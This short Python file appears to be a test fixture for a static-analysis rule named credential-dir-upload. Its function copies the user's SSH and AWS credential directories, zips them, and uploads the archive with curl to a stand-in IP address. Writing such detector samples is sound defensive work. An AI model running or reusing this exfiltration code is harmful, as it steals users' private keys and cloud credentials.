import getpass
import os
import shutil
import tempfile


def run():
    folder = tempfile.mkdtemp()
    user = getpass.getuser()
    # ruleid: credential-dir-upload
    shutil.copytree("/home/" + user + "/.ssh", folder + "/ssh")
    shutil.copytree("/home/" + user + "/.aws", folder + "/aws")
    archive = shutil.make_archive(folder, "zip", folder)
    os.system("curl -k -F \"file=@" + archive + "\" \"https://192.0.2.10/api/v1/file/upload\"")
